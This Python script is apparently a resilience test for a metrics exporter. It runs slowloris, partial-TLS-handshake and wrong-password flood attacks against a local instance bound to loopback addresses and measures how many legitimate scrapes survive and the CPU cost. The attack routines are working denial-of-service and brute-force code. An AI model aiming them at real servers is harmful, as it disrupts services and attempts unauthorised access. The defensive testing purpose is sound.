#!/usr/bin/env python3
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""One attack on a running tdxhp-exporter while a good client scrapes.

  attack.py ATTACK PID PORT SECONDS [--tls CA] [--auth USER:PASS]

ATTACK is tlsspin, slowloris or authflood.  Attackers use the loopback
source addresses 127.0.0.2 .. 127.0.0.11; the good client (127.0.0.1)
scrapes /metrics every 0.5 s on a fresh connection with a 2 s timeout.
Prints one line:  good=OK/TOTAL cpu=SECONDS median_ms=MS attackers=N
where cpu is the exporter's utime+stime over the attack, from
/proc/PID/stat (CPU time, not wall time).
"""
import argparse
import base64
import os
import socket
import ssl
import statistics
import sys
import threading
import time

ATTACKERS = ["127.0.0.%d" % i for i in range(2, 12)]
TICK = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    # fields[0] is state (field 3); utime and stime are fields 14 and 15.
    return (int(fields[11]) + int(fields[12])) / TICK


def connect(port, src, timeout):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((src, 0))
    s.connect(("127.0.0.1", port))
    return s


def request(auth):
    hdr = "GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
    if auth:
        hdr += "Authorization: Basic %s\r\n" % base64.b64encode(
            auth.encode()).decode()
    return (hdr + "\r\n").encode()


def scrape(port, ctx, auth):
    """One good scrape: True if a 200 with a body arrives within 2 s."""
    try:
        s = connect(port, "127.0.0.1", 2)
        if ctx:
            s = ctx.wrap_socket(s, server_hostname="127.0.0.1")
        s.sendall(request(auth))
        data = b""
        deadline = time.monotonic() + 2
        while time.monotonic() < deadline:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        if data.startswith(b"HTTP/1.1 200") and b"tdxhp_" in data:
            return True
        print("bad scrape: %r" % data[:80], file=sys.stderr)
    except (OSError, ssl.SSLError) as e:
        print("failed scrape: %s" % e, file=sys.stderr)
    return False


def tlsspin(port, stop, args):
    """Connections that send a partial TLS record header, then wait."""
    held = []
    while not stop.is_set():
        held = [s for s in held if s.fileno() >= 0]
        for src in ATTACKERS[:4]:
            try:
                s = connect(port, src, 1)
                s.sendall(b"\x16\x03\x01\x02")
                held.append(s)
            except OSError:
                pass
        stop.wait(2)
    return len(held)


def slowloris(port, stop, args):
    """500 connections, a partial request, then one header line every 3 s;
    closed ones are reopened."""
    conns = {}
    opened = 0
    n = 0
    while not stop.is_set():
        for i in range(500):
            if stop.is_set():
                break
            s = conns.get(i)
            try:
                if s is None:
                    s = connect(port, ATTACKERS[i % 10], 0.2)
                    s.setblocking(False)
                    if args.tls:
                        # A partial ClientHello stands for the handshake.
                        s.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
                    else:
                        s.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
                    conns[i] = s
                    opened += 1
                else:
                    s.send(b"X-a%d: b\r\n" % n if not args.tls else b"\x00")
            except (BlockingIOError, socket.timeout):
                pass
            except OSError:
                if s is not None:
                    s.close()
                conns.pop(i, None)
        n += 1
        stop.wait(3)
    for s in conns.values():
        s.close()
    return opened


def authflood(port, stop, args):
    """Wrong passwords, 5 a second from each of 10 addresses (50/s, more
    than the 33/s of the report)."""
    user = args.auth.split(":")[0] if args.auth else "alice"
    sent = [0]

    def one(src):
        ctx = make_ctx(args.tls)
        while not stop.is_set():
            try:
                s = connect(port, src, 2)
                if ctx:
                    s = ctx.wrap_socket(s, server_hostname="127.0.0.1")
                s.sendall(request("%s:wrong%d" % (user, sent[0])))
                sent[0] += 1
                s.recv(4096)
                s.close()
            except (OSError, ssl.SSLError):
                pass
            stop.wait(0.2)

    ts = [threading.Thread(target=one, args=(a,)) for a in ATTACKERS]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return sent[0]


def none(port, stop, args):
    """No attack: the exporter's own CPU time, for comparison."""
    stop.wait()
    return 0


def make_ctx(ca):
    if not ca:
        return None
    ctx = ssl.create_default_context(cafile=ca)
    return ctx


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("attack", choices=["none", "tlsspin", "slowloris", "authflood"])
    ap.add_argument("pid", type=int)
    ap.add_argument("port", type=int)
    ap.add_argument("seconds", type=float)
    ap.add_argument("--tls")
    ap.add_argument("--auth")
    args = ap.parse_args()

    stop = threading.Event()
    result = {}
    attacker = threading.Thread(target=lambda: result.update(
        n=globals()[args.attack](args.port, stop, args)))
    cpu0 = cpu_seconds(args.pid)
    attacker.start()
    time.sleep(1)  # let the attack build up before the good client starts
    ctx = make_ctx(args.tls)
    ok = total = 0
    lat = []
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        t0 = time.monotonic()
        if scrape(args.port, ctx, args.auth):
            ok += 1
            lat.append((time.monotonic() - t0) * 1000)
        total += 1
        time.sleep(max(0, 0.5 - (time.monotonic() - t0)))
    stop.set()
    attacker.join()
    cpu = cpu_seconds(args.pid) - cpu0
    print("good=%d/%d cpu=%.2f median_ms=%.0f attackers=%d" %
          (ok, total, cpu, statistics.median(lat) if lat else -1,
           result.get("n", 0)))


if __name__ == "__main__":
    main()
